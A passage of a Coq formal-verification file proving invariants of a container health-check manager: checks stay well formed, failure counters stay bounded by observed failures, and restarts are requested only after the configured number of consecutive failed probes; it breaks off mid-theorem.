Lemma all_ok_load l hm :
  all_ok hm -> Forall (fun p : string * HealthCheck => well_formed p.2) l ->
  all_ok (foldl (fun hm p => if HasSuffix p.1 ".json" then alloc hm p.2 else hm) hm l).
Proof.
  revert hm. induction l as [|p l IH]; intros hm Hok Hl; [done|]. apply Forall_cons in Hl as [Hp Hl]. cbn [foldl].
  apply IH; [|done]. destruct (HasSuffix p.1 ".json"); [|done]. by apply all_ok_alloc.
Qed.

Lemma all_ok_new d : map_Forall (fun _ hc => well_formed hc) d -> all_ok (newHealthManager d).
Proof.
  intros Hd. apply all_ok_load; [done|]. apply Forall_forall. intros [p hc] Hin.
  rewrite merge_sort_Permutation in Hin. apply elem_of_map_to_list in Hin. by apply (Hd p).
Qed.

#[local] Hint Resolve all_ok_probe all_ok_restart all_ok_start all_ok_set all_ok_remove : health.

Lemma all_ok_act a (x y : world (St := St)) : act a x = Some y -> all_ok (w_hm x) -> all_ok (w_hm y).
Proof.
  intros Ha Hok. destruct x as [hm s wt log]. cbn [w_hm] in *. unfold act in Ha. cbn [w_hm w_watch w_st w_log] in Ha.
  destruct a; [| | | | | |].
  - destruct wt as [[|]| |]; try done. destruct (_ && _); [|done]. by injection Ha as <-.
  - destruct wt as [[|l due]| |]; try done. destruct (heap hm !! l) as [hc|] eqn:Hl; [|done].
    destruct (executeProbe net s hc) as [o s']. pose proof (all_ok_probe hm l hc o now w Hok (proj1 Hok l hc Hl)) as Hp.
    destruct (probe_done hm l hc o now w) as [[h|] hm']; by injection Ha as <-.
  - destruct wt; try done. destruct (RestartSandbox s id). by injection Ha as <-.
  - destruct wt; try done. injection Ha as <-. eauto with health.
  - destruct wt as [[|]| |]; injection Ha as <-; eauto with health.
  - destruct wt as [[|]| |]; injection Ha as <-; cbn [w_hm]; destruct (handleSet_state hm args now w) as [-> | ->]; eauto with health.
  - destruct wt as [[|]| |]; injection Ha as <-; cbn [w_hm]; destruct (handleRemove_state hm args) as [-> | ->]; eauto with health.
Qed.

(** *** The failure counters never exceed the failures observed *)

(** The pointer is the one the map or the watcher uses for its container. *)
Definition in_use (cs : gmap string nat) (wt : watcher) (l : nat) (hc : HealthCheck) : Prop :=
  cs !! hc_ContainerID hc = Some l \/ l ∈ pending wt.

Definition ids_in_hand (hp : gmap nat HealthCheck) (wt : watcher) : list string :=
  (restarting wt ++ omap (fun l => hc_ContainerID <$> hp !! l) (pending wt))%list.

Record counted (cs : gmap string nat) (hp : gmap nat HealthCheck) (nx : nat) (wt : watcher) (log : list event) : Prop := {
  ct_checks : forall id l, cs !! id = Some l -> exists hc, hp !! l = Some hc /\ hc_ContainerID hc = id;
  ct_same : forall l hc l', l ∈ pending wt -> hp !! l = Some hc -> cs !! hc_ContainerID hc = Some l' -> l' = l;
  ct_busy : NoDup (ids_in_hand hp wt);
  ct_count : forall l hc, hp !! l = Some hc -> in_use cs wt l hc ->
    int_min <= hc_ConsecutiveFailures hc <= failures_in_a_row (hc_ContainerID hc) log;
  ct_thr : match wt with WRestart id thr _ => thr <= failures_in_a_row id log | _ => True end;
  ct_fresh : forall l, is_Some (hp !! l) -> (l < nx)%nat;
  ct_pending : forall l, l ∈ pending wt -> is_Some (hp !! l);
  ct_log : restarts_justified log;
}.

Definition counted_world (x : world (St := St)) : Prop :=
  counted (checks (w_hm x)) (heap (w_hm x)) (next_addr (w_hm x)) (w_watch x) (w_log x).

(** Writing the watcher's fields of a check keeps the containers. *)
Lemma ids_in_hand_update hp wt l hc hc' :
  hp !! l = Some hc -> hc_ContainerID hc' = hc_ContainerID hc ->
  ids_in_hand (<[l := hc']> hp) wt = ids_in_hand hp wt.
Proof.
  intros Hl Hid. unfold ids_in_hand. f_equal. apply list_omap_ext, Forall_Forall2_diag, Forall_forall.
  intros l' _. destruct (decide (l' = l)) as [->|Hne]; [|by rewrite lookup_insert_ne].
  rewrite lookup_insert_eq, Hl. cbn. by rewrite Hid.
Qed.

Lemma due_checks_spec hm now order l :
  l ∈ due_checks hm now order -> exists id hc, id ∈ order /\ checks hm !! id = Some l /\ heap hm !! l = Some hc.
Proof.
  unfold due_checks. intros (id & Hin & Hl)%list_elem_of_omap.
  destruct (checks hm !! id) as [l'|] eqn:Hc; [|done]. cbn in Hl. destruct (heap hm !! l') as [hc|] eqn:Hh; [|done].
  cbn in Hl. destruct (is_due hc now); [|done]. injection Hl as ->. eauto.
Qed.

Lemma due_checks_NoDup hm now order :
  (forall id l, checks hm !! id = Some l -> exists hc, heap hm !! l = Some hc /\ hc_ContainerID hc = id) ->
  NoDup order -> NoDup (omap (fun l => hc_ContainerID <$> heap hm !! l) (due_checks hm now order)).
Proof.
  intros Hcs. induction order as [|id order IH]; intros Hnd; [constructor|].
  apply NoDup_cons in Hnd as [Hnin Hnd]. specialize (IH Hnd). cbn [due_checks omap list_omap].
  destruct (checks hm !! id) as [l|] eqn:Hl; [|done]. cbn. destruct (Hcs id l Hl) as (hc & Hh & Hid). rewrite Hh. cbn.
  destruct (is_due hc now); [|done]. cbn. rewrite Hh. cbn. constructor; [|done].
  intros (l' & Hin & Hl')%list_elem_of_omap. apply due_checks_spec in Hin as (id' & hc' & Hin & Hc' & Hh').
  destruct (Hcs id' l' Hc') as (hc2 & Hh2 & Hid2). rewrite Hh' in Hl', Hh2. injection Hh2 as ->. cbn in Hl'.
  injection Hl' as Heq. apply Hnin. congruence.
Qed.

Lemma counted_tick hm log now order :
  counted (checks hm) (heap hm) (next_addr hm) (WProbe []) log -> NoDup order ->
  counted (checks hm) (heap hm) (next_addr hm) (WProbe (due_checks hm now order)) log.
Proof.
  intros Hc Hnd. pose proof (ct_checks _ _ _ _ _ Hc) as Hcs. split; try apply Hc.
  - intros l hc l' (id & hc' & _ & Hl & Hh)%due_checks_spec Hh' Hl'. destruct (Hcs id l Hl) as (hc2 & Hh2 & Hid). congruence.
  - by apply due_checks_NoDup.
  - intros l hc Hh [Hu|(id & hc' & _ & Hl & Hh')%due_checks_spec]; apply (ct_count _ _ _ _ _ Hc l hc Hh); [by left|left].
    destruct (Hcs id l Hl) as (hc2 & Hh2 & Hid). congruence.
  - intros l (id & hc & _ & _ & Hh)%due_checks_spec. by exists hc.
Qed.

(** The container of the check the watcher has in hand is nobody else's. *)
Lemma in_hand_unique cs hp nx l due log hc l' hc' :
  counted cs hp nx (WProbe (l :: due)) log -> hp !! l = Some hc -> hp !! l' = Some hc' ->
  in_use cs (WProbe due) l' hc' -> hc_ContainerID hc' = hc_ContainerID hc -> cs !! hc_ContainerID hc = Some l /\ l' = l.
Proof.
  intros Hc Hl Hl' [Hu|Hin] Hid.
  - rewrite Hid in Hu. assert (l' = l) as -> by (eapply (ct_same _ _ _ _ _ Hc); [apply list_elem_of_here|done|done]). done.
  - pose proof (ct_busy _ _ _ _ _ Hc) as Hnd. unfold ids_in_hand in Hnd. cbn in Hnd. rewrite Hl in Hnd. cbn in Hnd.
    apply NoDup_cons in Hnd as [Hnin _]. destruct Hnin. apply list_elem_of_omap. exists l'. split; [done|].
    rewrite Hl'. cbn. by rewrite Hid.
Qed.

Lemma is_Some_insert {A} (m : gmap nat A) l (a b : A) l' : m !! l = Some a -> is_Some (<[l := b]> m !! l') <-> is_Some (m !! l').
Proof.
  intros Hl. destruct (decide (l' = l)) as [->|Hne]; [|by rewrite lookup_insert_ne].
  rewrite lookup_insert_eq, Hl. split; by eexists.
Qed.

Lemma counted_probe cs hp nx l due log hc hc' healthy wt :
  counted cs hp nx (WProbe (l :: due)) log -> hp !! l = Some hc -> hc_ContainerID hc' = hc_ContainerID hc ->
  int_min <= hc_ConsecutiveFailures hc' <= failures_in_a_row (hc_ContainerID hc) (EProbe (hc_ContainerID hc) healthy :: log) ->
  wt = WProbe due \/
  wt = WRestart (hc_ContainerID hc) (hc_FailureThreshold hc') due /\ hc_FailureThreshold hc' <= hc_ConsecutiveFailures hc' ->
  counted cs (<[l := hc']> hp) nx wt (EProbe (hc_ContainerID hc) healthy :: log).
Proof.
  intros Hc Hl Hid Hcf Hwt.
  assert (pending wt = due) as Hpend by by destruct Hwt as [->|[-> _]].
  split.
  - intros id l' Hcs. destruct (ct_checks _ _ _ _ _ Hc id l' Hcs) as (h & Hh & Hhid).
    destruct (decide (l' = l)) as [->|Hne]; [|exists h; by rewrite lookup_insert_ne].
    exists hc'. rewrite lookup_insert_eq. split; [done|]. congruence.
  - rewrite Hpend. intros l' h l2 Hin Hh Hcs. destruct (decide (l' = l)) as [->|Hne].
    + rewrite lookup_insert_eq in Hh. injection Hh as <-. rewrite Hid in Hcs.
      eapply (ct_same _ _ _ _ _ Hc); [apply list_elem_of_here|done|done].
    + rewrite lookup_insert_ne in Hh by done. eapply (ct_same _ _ _ _ _ Hc); [by apply list_elem_of_further|done|done].
  - erewrite ids_in_hand_update by done. pose proof (ct_busy _ _ _ _ _ Hc) as Hnd. unfold ids_in_hand in Hnd.
    cbn in Hnd. rewrite Hl in Hnd. cbn in Hnd. unfold ids_in_hand. rewrite Hpend.
    destruct Hwt as [->|[-> _]]; [by apply NoDup_cons in Hnd as [_ Hnd]|done].
  - intros l' h Hh Hu. assert (in_use cs (WProbe due) l' h) as Hu' by (unfold in_use in *; by rewrite Hpend in Hu).
    destruct (decide (l' = l)) as [->|Hne]; [by rewrite lookup_insert_eq in Hh; injection Hh as <-; rewrite Hid|].
    rewrite lookup_insert_ne in Hh by done.
    assert (hc_ContainerID h <> hc_ContainerID hc) as Hne'.
    { intros Heq. destruct (in_hand_unique _ _ _ _ _ _ _ _ _ Hc Hl Hh Hu' Heq). done. }
    cbn [failures_in_a_row]. rewrite bool_decide_false by congruence. apply (ct_count _ _ _ _ _ Hc l' h Hh).
    destruct Hu' as [Hu'|Hu']; [by left|right; by apply list_elem_of_further].
  - destruct Hwt as [->|[-> Hthr]]; [done|lia].
  - intros l' Hs. apply (ct_fresh _ _ _ _ _ Hc). by apply (is_Some_insert hp l hc hc').
  - rewrite Hpend. intros l' Hin. apply (is_Some_insert hp l hc hc'); [done|]. apply (ct_pending _ _ _ _ _ Hc).
    by apply list_elem_of_further.
  - apply Hc.
Qed.

Lemma counted_ask cs hp nx id thr due log r :
  counted cs hp nx (WRestart id thr due) log -> counted cs hp nx (WAnswer id r due) (ERestart id thr :: log).
Proof. intros Hc. pose proof (ct_thr _ _ _ _ _ Hc). split; try apply Hc; try done. split; [done|apply Hc]. Qed.

(** The answer arrives: nothing else in hand is about this container. *)
Lemma counted_answer cs hp nx id r due log l hc hc' :
  counted cs hp nx (WAnswer id r due) log -> cs !! id = Some l -> hp !! l = Some hc ->
  hc_ContainerID hc' = hc_ContainerID hc ->
  hc_ConsecutiveFailures hc' = (if is_ok r then 0 else hc_ConsecutiveFailures hc) ->
  counted cs (<[l := hc']> hp) nx (WProbe due) (EAnswer id (is_ok r) :: log).
Proof.
  intros Hc Hcs Hl Hid Hcf. destruct (ct_checks _ _ _ _ _ Hc id l Hcs) as (h0 & Hh0 & Hid0).
  rewrite Hl in Hh0. injection Hh0 as <-.
  pose proof (ct_busy _ _ _ _ _ Hc) as Hnd. apply NoDup_cons in Hnd as [Hnin Hnd].
  assert (forall l' h, l' ∈ due -> hp !! l' = Some h -> hc_ContainerID h <> id) as Hfree.
  { intros l' h Hin Hh Heq. apply Hnin. apply list_elem_of_omap. exists l'. split; [done|]. rewrite Hh. cbn. by rewrite Heq. }
  split; try apply Hc.
  - intros id' l' Hcs'. destruct (ct_checks _ _ _ _ _ Hc id' l' Hcs') as (h & Hh & Hhid).
    destruct (decide (l' = l)) as [->|Hne]; [|exists h; by rewrite lookup_insert_ne].
    exists hc'. rewrite lookup_insert_eq. split; [done|]. congruence.
  - cbn. intros l' h l2 Hin Hh Hcs2. destruct (decide (l' = l)) as [->|Hne].
    + by destruct (Hfree l hc Hin Hl).
    + rewrite lookup_insert_ne in Hh by done. by eapply (ct_same _ _ _ _ _ Hc).
  - by erewrite ids_in_hand_update.
  - intros l' h Hh Hu. destruct (decide (l' = l)) as [->|Hne].
    + rewrite lookup_insert_eq in Hh. injection Hh as <-.
      assert (in_use cs (WAnswer id r due) l hc) as Hu' by (left; by rewrite Hid0).
      pose proof (ct_count _ _ _ _ _ Hc l hc Hl Hu') as Hcount. rewrite Hid, Hcf, Hid0. rewrite Hid0 in Hcount.
      pose proof (failures_nonneg id log). cbn [failures_in_a_row]. rewrite bool_decide_true by done. cbn. destruct (is_ok r); [|by apply Hcount].
      unfold int_min. lia.
    + rewrite lookup_insert_ne in Hh by done. cbn [failures_in_a_row].
      assert (hc_ContainerID h <> id) as Hne'.
      { intros Heq. destruct Hu as [Hu|Hu]; [congruence|by destruct (Hfree l' h Hu Hh)]. }
      rewrite bool_decide_false by done. by apply (ct_count _ _ _ _ _ Hc l' h Hh).
  - intros l' Hs. apply (ct_fresh _ _ _ _ _ Hc). by apply (is_Some_insert hp l hc hc').
  - intros l' Hin. apply (is_Some_insert hp l hc hc'); [done|]. by apply (ct_pending _ _ _ _ _ Hc).
Qed.

Lemma counted_orphan_answer cs hp nx id r due log :
  counted cs hp nx (WAnswer id r due) log -> cs !! id = None ->
  counted cs hp nx (WProbe due) (EAnswer id (is_ok r) :: log).
Proof.
  intros Hc Hcs. pose proof (ct_busy _ _ _ _ _ Hc) as Hnd. apply NoDup_cons in Hnd as [Hnin Hnd].
  split; try apply Hc; [done|].
  intros l h Hh Hu. cbn [failures_in_a_row]. rewrite bool_decide_false; [by apply (ct_count _ _ _ _ _ Hc l h Hh)|].
  intros ->. destruct Hu as [Hu|Hu]; [congruence|]. apply Hnin, list_elem_of_omap. exists l. by rewrite Hh.
Qed.

Lemma counted_alloc cs hp nx wt log hc :
  counted cs hp nx wt log -> hc_ContainerID hc ∉ ids_in_hand hp wt ->
  int_min <= hc_ConsecutiveFailures hc <= failures_in_a_row (hc_ContainerID hc) log ->
  counted (<[hc_ContainerID hc := nx]> cs) (<[nx := hc]> hp) (S nx) wt log.
Proof.
  intros Hc Hnin Hcf.
  assert (forall l h, hp !! l = Some h -> l <> nx) as Hnew.
  { intros l h Hh ->. assert (nx < nx)%nat; [|lia]. apply (ct_fresh _ _ _ _ _ Hc). by exists h. }
  assert (forall l, l ∈ pending wt -> exists h, hp !! l = Some h /\ <[nx := hc]> hp !! l = Some h /\
            hc_ContainerID h <> hc_ContainerID hc) as Hpend.
  { intros l Hin. destruct (ct_pending _ _ _ _ _ Hc l Hin) as [h Hh]. exists h.
    rewrite lookup_insert_ne by (intros ->; by apply (Hnew l h)). split_and!; [done|done|].
    intros Heq. apply Hnin. apply elem_of_app. right. apply list_elem_of_omap. exists l. rewrite Hh. cbn. by rewrite Heq. }
  split; try apply Hc.
  - intros id l Hcs. destruct (decide (id = hc_ContainerID hc)) as [->|Hne].
    + rewrite lookup_insert_eq in Hcs. injection Hcs as <-. exists hc. by rewrite lookup_insert_eq.
    + rewrite lookup_insert_ne in Hcs by done. destruct (ct_checks _ _ _ _ _ Hc id l Hcs) as (h & Hh & Hid).
      exists h. rewrite lookup_insert_ne by (intros ->; by apply (Hnew l h)). done.
  - intros l h l' Hin Hh Hcs. destruct (Hpend l Hin) as (h0 & Hh0 & Hh1 & Hne). assert (h = h0) as -> by congruence.
    rewrite lookup_insert_ne in Hcs by done. by eapply (ct_same _ _ _ _ _ Hc).
  - assert (ids_in_hand (<[nx := hc]> hp) wt = ids_in_hand hp wt) as ->; [|apply Hc].
    unfold ids_in_hand. f_equal. apply list_omap_ext, Forall_Forall2_diag, Forall_forall. intros l Hin.
    destruct (Hpend l Hin) as (h0 & Hh0 & Hh1 & _). by rewrite Hh0, Hh1.
  - intros l h Hh Hu. destruct (decide (l = nx)) as [->|Hne].
    + rewrite lookup_insert_eq in Hh. by injection Hh as <-.
    + rewrite lookup_insert_ne in Hh by done. apply (ct_count _ _ _ _ _ Hc l h Hh). destruct Hu as [Hu|Hu]; [left|by right].
      destruct (decide (hc_ContainerID h = hc_ContainerID hc)) as [Heq|Hne']; [|by rewrite lookup_insert_ne in Hu].
      rewrite Heq, lookup_insert_eq in Hu. congruence.
  - intros l Hs. destruct (decide (l = nx)) as [->|Hne]; [lia|]. rewrite lookup_insert_ne in Hs by done.
    apply (ct_fresh _ _ _ _ _ Hc) in Hs. lia.
  - intros l Hin. destruct (Hpend l Hin) as (h0 & _ & Hh1 & _). by exists h0.
Qed.

Lemma counted_delete cs hp nx wt log id : counted cs hp nx wt log -> counted (delete id cs) hp nx wt log.
Proof.
  intros Hc. split; try apply Hc.
  - intros id' l Hcs%lookup_delete_Some. apply (ct_checks _ _ _ _ _ Hc). tauto.
  - intros l h l2 Hin Hh [_ Hcs]%lookup_delete_Some. by eapply (ct_same _ _ _ _ _ Hc).
  - intros l h Hh Hu. apply (ct_count _ _ _ _ _ Hc l h Hh). destruct Hu as [Hu|Hu]; [left|by right].
    by apply lookup_delete_Some in Hu as [_ Hu].
Qed.

Lemma counted_set hm args now w wt log :
  counted (checks hm) (heap hm) (next_addr hm) wt log -> argString args "container_id" ∉ ids_in_hand (heap hm) wt ->
  let hm' := (setHealthCheck hm (check_of_args args) now w).2 in
  counted (checks hm') (heap hm') (next_addr hm') wt log.
Proof.
  intros Hc Hnin. unfold setHealthCheck. destruct (check_config _) as [h|m] eqn:Hcfg; [|done].
  apply check_config_ok in Hcfg as (_ & Hid & Hcf). set (h' := match get_check _ _ with Some _ => _ | None => _ end).
  assert (hc_ContainerID h' = argString args "container_id") as Hid'.
  { unfold h'. destruct (get_check hm _); exact Hid. }
  assert (int_min <= hc_ConsecutiveFailures h' <= failures_in_a_row (hc_ContainerID h') log) as Hcf'.
  { rewrite Hid'. unfold h'. rewrite Hid. change (hc_ContainerID (check_of_args args)) with (argString args "container_id").
    unfold get_check. destruct (checks hm !! _) as [l|] eqn:Hl.
    - destruct (ct_checks _ _ _ _ _ Hc _ _ Hl) as (h0 & Hh0 & Hid0). cbn -[argString]. rewrite Hh0. cbn -[argString].
      rewrite <- Hid0. apply (ct_count _ _ _ _ _ Hc l h0 Hh0). left. by rewrite Hid0.
    - cbn -[argString failures_in_a_row]. rewrite Hcf. cbn -[argString failures_in_a_row].
      pose proof (failures_nonneg (argString args "container_id") log). unfold int_min. lia. }
  pose proof (saveCheck_keeps (alloc hm h') h' w) as (E1 & E2 & E3).
  destruct (saveCheck (alloc hm h') h' w) as [r hm']. cbn [snd] in *. rewrite E1, E2, E3.
  apply counted_alloc; [done|by rewrite Hid'|done].
Qed.

Lemma counted_remove hm id wt log :
  counted (checks hm) (heap hm) (next_addr hm) wt log ->
  let hm' := (removeHealthCheck hm id).2 in counted (checks hm') (heap hm') (next_addr hm') wt log.
Proof.
  intros Hc. unfold removeHealthCheck. destruct (checks hm !! id); [|done]. by apply counted_delete.
Qed.

Lemma counted_load l hm log :
  counted (checks hm) (heap hm) (next_addr hm) (WProbe []) log ->
  Forall (fun p : string * HealthCheck => int_min <= hc_ConsecutiveFailures p.2 <= failures_in_a_row (hc_ContainerID p.2) log) l ->
  let hm' := foldl (fun hm p => if HasSuffix p.1 ".json" then alloc hm p.2 else hm) hm l in
  counted (checks hm') (heap hm') (next_addr hm') (WProbe []) log.
Proof.
  revert hm. induction l as [|p l IH]; intros hm Hc Hl; [done|]. apply Forall_cons in Hl as [Hp Hl]. cbn [foldl].
  apply IH; [|done]. destruct (HasSuffix p.1 ".json"); [|done]. apply counted_alloc; [done|apply not_elem_of_nil|done].
Qed.

Definition counts_within (d : gmap string HealthCheck) (log : list event) : Prop :=
  map_Forall (fun _ hc => int_min <= hc_ConsecutiveFailures hc <= failures_in_a_row (hc_ContainerID hc) log) d.

Lemma counted_new d (s : St) log :
  restarts_justified log -> counts_within d log -> counted_world (MkWorld (newHealthManager d) s (WProbe []) log).
Proof.
  intros Hlog Hd. apply counted_load.
  - split; try done; cbn; try constructor; intros *; rewrite ?lookup_empty; try done; try (by intros [? ?]); by intros ?%not_elem_of_nil.
  - apply Forall_forall. intros [p hc] Hin. rewrite merge_sort_Permutation in Hin. apply elem_of_map_to_list in Hin.
    by apply (Hd p).
Qed.

Lemma counted_probe_done hm l due log hc (o : option string) now w :
  counted (checks hm) (heap hm) (next_addr hm) (WProbe (l :: due)) log -> heap hm !! l = Some hc ->
  let '(restart, hm') := probe_done hm l hc o now w in
  counted (checks hm') (heap hm') (next_addr hm')
    (match restart with Some h => WRestart (hc_ContainerID h) (hc_FailureThreshold h) due | None => WProbe due end)
    (EProbe (hc_ContainerID hc) (negb (bool_decide (is_Some o))) :: log).
Proof.
  intros Hc Hl.
  pose proof (ct_count _ _ _ _ _ Hc l hc Hl (or_intror (list_elem_of_here l due))) as Hcount.
  destruct o as [err|]; cbn -[saveCheck failures_in_a_row wrap64 bool_decide].
  - set (h := with_state hc _ _ _ _ _). autorewrite with health.
    rewrite (bool_decide_true (is_Some _)) by eauto. apply (counted_probe _ _ _ l due _ hc h); [done|done|done| |].
    + cbn [failures_in_a_row negb]. rewrite bool_decide_true by done. unfold h. cbn [with_state hc_ConsecutiveFailures].
      pose proof (wrap64_le (hc_ConsecutiveFailures hc + 1)). pose proof (wrap64_range (hc_ConsecutiveFailures hc + 1)). lia.
    + destruct (Z.leb_spec (hc_FailureThreshold hc) (wrap64 (hc_ConsecutiveFailures hc + 1))); [right|by left]. done.
  - set (h := with_state hc _ _ _ _ _). autorewrite with health.
    rewrite (bool_decide_false (is_Some _)) by (by intros [? ?]). apply (counted_probe _ _ _ l due _ hc h); [done|done|done| |by left].
    cbn [failures_in_a_row negb]. rewrite bool_decide_true by done. cbn. unfold int_min. lia.
Qed.

Lemma counted_restart_done hm id r due log w :
  counted (checks hm) (heap hm) (next_addr hm) (WAnswer id r due) log ->
  let hm' := restart_done hm id r w in
  counted (checks hm') (heap hm') (next_addr hm') (WProbe due) (EAnswer id (is_ok r) :: log).
Proof.
  intros Hc. unfold restart_done. destruct (checks hm !! id) as [l|] eqn:Hcs; [|by apply counted_orphan_answer].
  destruct (ct_checks _ _ _ _ _ Hc id l Hcs) as (hc & Hl & _). rewrite Hl. cbn [snd].
  autorewrite with health. cbn [put_heap checks heap next_addr].
  apply (counted_answer _ _ _ _ _ _ _ _ hc); [done|done|done|by destruct r|by destruct r].
Qed.

Lemma counted_act a (x y : world (St := St)) :
  act a x = Some y ->
  match a with SetCheck args _ _ => argString args "container_id" ∉ busy x | _ => True end ->
  counted_world x -> counted_world y.
Proof.
  intros Ha Hq Hc. destruct x as [hm s wt log]. unfold counted_world in *. unfold act in Ha.
  cbn [w_hm w_watch w_st w_log] in *. destruct a.
  - destruct wt as [[|]| |]; try done. destruct (_ && _) eqn:Ho; [|done]. injection Ha as <-.
    apply andb_true_iff in Ho as [_ Ho%bool_decide_eq_true]. apply counted_tick; [done|].
    rewrite Ho. apply NoDup_elements.
  - destruct wt as [[|l due]| |]; try done. destruct (heap hm !! l) as [hc|] eqn:Hl; [|done].
    destruct (executeProbe net s hc) as [o s']. pose proof (counted_probe_done hm l due log hc o now w Hc Hl) as Hp.
    destruct (probe_done hm l hc o now w) as [restart hm']. by injection Ha as <-.
  - destruct wt; try done. destruct (RestartSandbox s id). injection Ha as <-. by apply counted_ask.
  - destruct wt; try done. injection Ha as <-. by apply counted_restart_done.
  - assert (y = MkWorld (Start hm) s wt log) as -> by (destruct wt as [[|]| |]; congruence). cbn [w_hm w_watch w_log].
    unfold Start. by destruct (hm_running hm).
  - assert (y = MkWorld (handleHealthCheckSet hm args now w).2 s wt log) as -> by (destruct wt as [[|]| |]; congruence).
    cbn [w_hm w_watch w_log]. destruct (handleSet_state hm args now w) as [-> | ->]; [done|]. by apply counted_set.
  - assert (y = MkWorld (handleHealthCheckRemove hm args).2 s wt log) as -> by (destruct wt as [[|]| |]; congruence).
    cbn [w_hm w_watch w_log]. destruct (handleRemove_state hm args) as [-> | ->]; [done|]. by apply counted_remove.
Qed.

Lemma counted_quiet (x y : world (St := St)) : quiet_run x y -> counted_world x -> counted_world y.
Proof. induction 1 as [|x a y z Ha Hq _ IH]; intros Hc; [done|]. apply IH. by eapply counted_act. Qed.

(** A run given by its actions, when each is allowed. *)
Fixpoint quiet_actions (acts : list action) (x : world (St := St)) : option world :=
  match acts with
  | [] => Some x
  | a :: acts =>
      if match a with SetCheck args _ _ => bool_decide (argString args "container_id" ∉ busy x) | _ => true end
      then act a x ≫= quiet_actions acts else None
  end.

Lemma quiet_actions_run acts x y : quiet_actions acts x = Some y -> quiet_run x y.
Proof.
  revert x. induction acts as [|a acts IH]; intros x; cbn; [intros [= <-]; constructor|].
  intros Hrun. destruct (match a with SetCheck _ _ _ => _ | _ => _ end) eqn:Ha; [|done].
  destruct (act a x) as [x'|] eqn:Hx; [|done]. apply (quiet_act x a x'); [done| |by apply IH].
  destruct a; try done. by apply bool_decide_eq_true in Ha.
Qed.

(** *** Failing rounds *)

(** The probe of a check fails in a round, whatever the runtime's state. *)
Definition failing (hc : HealthCheck) (r : round) : Prop :=
  exists err, forall s : St, executeProbe (rd_net r) s hc = (Some err, s).

(** A check after [k] failures: the configuration and the restart count are those of [hc]. *)
Definition failed_times (hc : HealthCheck) (k : Z) (h : HealthCheck) : Prop :=
  exists c st e, h = with_state hc k c st e (hc_RestartCount hc).

Lemma failing_round hm (s : St) l hc k h r :
  heap hm !! l = Some h -> failed_times hc k h -> failing hc r -> 0 <= k < hc_FailureThreshold hc - 1 ->
  hc_FailureThreshold hc <= int_max ->
  exists hm' h', runProbe hm s (rd_net r) l (rd_now r) (rd_save r) (rd_save' r) = (hm', s) /\
    checks hm' = checks hm /\ heap hm' !! l = Some h' /\ failed_times hc (k + 1) h'.
Proof.
  intros Hl (c & st & e & ->) [err Herr] Hk Hmax. unfold runProbe. rewrite Hl.
  change (executeProbe (rd_net r) s (with_state hc k c st e (hc_RestartCount hc))) with (executeProbe (rd_net r) s hc).
  rewrite Herr. cbn -[saveCheck wrap64]. rewrite wrap64_id by (unfold int_min, int_max in *; lia).
  destruct (Z.leb_spec (hc_FailureThreshold hc) (k + 1)); [lia|]. eexists _, _. split; [done|].
  rewrite saveCheck_checks, saveCheck_heap. split; [done|]. cbn. rewrite lookup_insert_eq. split; [done|].
  by eexists _, _, _.
Qed.

Lemma failing_rounds l hc (s : St) rounds : forall hm k h,
  heap hm !! l = Some h -> failed_times hc k h -> Forall (failing hc) rounds ->
  0 <= k -> k + Z.of_nat (length rounds) < hc_FailureThreshold hc -> hc_FailureThreshold hc <= int_max ->
  exists hm' h', run_probes hm s (replicate (length rounds) l) rounds = (hm', s) /\
    checks hm' = checks hm /\ heap hm' !! l = Some h' /\ failed_times hc (k + Z.of_nat (length rounds)) h'.
Proof.
  induction rounds as [|r rounds IH]; intros hm k h Hl Hh Hf Hk0 Hk Hmax.
  - exists hm, h. cbn [length Z.of_nat]. by rewrite Z.add_0_r.
  - apply Forall_cons in Hf as [Hr Hf]. cbn [length] in *.
    destruct (failing_round hm s l hc k h r Hl Hh Hr) as (hm1 & h1 & Hrun & Hcs & Hl1 & Hh1); [lia|done|].
    destruct (IH hm1 (k + 1) h1 Hl1 Hh1 Hf) as (hm2 & h2 & Hrun2 & Hcs2 & Hl2 & Hh2); [lia|lia|done|].
    exists hm2, h2. cbn [replicate run_probes]. rewrite Hrun. split; [done|]. split; [congruence|]. split; [done|].
    replace (k + Z.of_nat (S (length rounds))) with (k + 1 + Z.of_nat (length rounds)) by lia. done.
Qed.

(** ** Theorems *)

(** C23: in every run in which a check is not reconfigured while the watcher is
    busy with its container, a restart is asked for only after at least
    FailureThreshold failed probes of the container in a row, with no healthy
    probe and no successful restart between them. *)
Theorem restarts_need_failures d (s : St) log x
  (Hlog : restarts_justified log)
  (Hd : counts_within d log)
  (Hrun : quiet_run (MkWorld (newHealthManager d) s (WProbe []) log) x) :
  restarts_justified (w_log x).
Proof. apply counted_quiet in Hrun; [apply Hrun|]. by apply counted_new. Qed.

(** Whatever the interleaving of the watcher and its clients, every check in
    memory and on disk stays well formed: an identifier, an interval of at least
    5 s, a timeout and a threshold of at least 1, a port in range and a host
    that is not private for network probes, a command for exec probes. *)
Theorem checks_well_formed d (s : St) log acts x
  (Hd : map_Forall (fun _ hc => well_formed hc) d)
  (Hrun : run_actions acts (MkWorld (newHealthManager d) s (WProbe []) log) = Some x) :
  all_ok (w_hm x).
Proof.
  assert (all_ok (newHealthManager d)) as Hok by by apply all_ok_new. revert Hok Hrun.
  generalize (newHealthManager d), (WProbe []). intros hm wt Hok.
  change hm with (w_hm (MkWorld hm s wt log)) in Hok. revert Hok. generalize (MkWorld hm s wt log).
  clear. induction acts as [|a acts IH]; intros x0 Hok Hrun; [by injection Hrun as <-|].
  cbn in Hrun. destruct (act a x0) as [x1|] eqn:Ha; [|done]. apply (IH x1); [|done]. by eapply all_ok_act.
Qed.

(** A check with no failures whose probe keeps failing: the rounds before the
    threshold only count and do not touch the runtime; the round that reaches the threshold asks
    the runtime for a restart, and the count is 0 again when the restart succeeds and stays at
    the threshold, with the error recorded, when it does not. *)
Theorem restart_at_threshold hm (s : St) l hc rounds r answer s'
  (Hcs : checks hm !! hc_ContainerID hc = Some l)
  (Hl : heap hm !! l = Some hc)
  (Hzero : hc_ConsecutiveFailures hc = 0)
  (Hmax : hc_FailureThreshold hc <= int_max)
  (Hn : Z.of_nat (length rounds) + 1 = hc_FailureThreshold hc)
  (Hfail : Forall (failing hc) rounds)
  (Hr : failing hc r)
  (Hanswer : RestartSandbox s (hc_ContainerID hc) = (answer, s')) :
  exists hm1 hm2 h2,
    run_probes hm s (replicate (length rounds) l) rounds = (hm1, s) /\
    runProbe hm1 s (rd_net r) l (rd_now r) (rd_save r) (rd_save' r) = (hm2, s') /\
    heap hm2 !! l = Some h2 /\
    match answer with
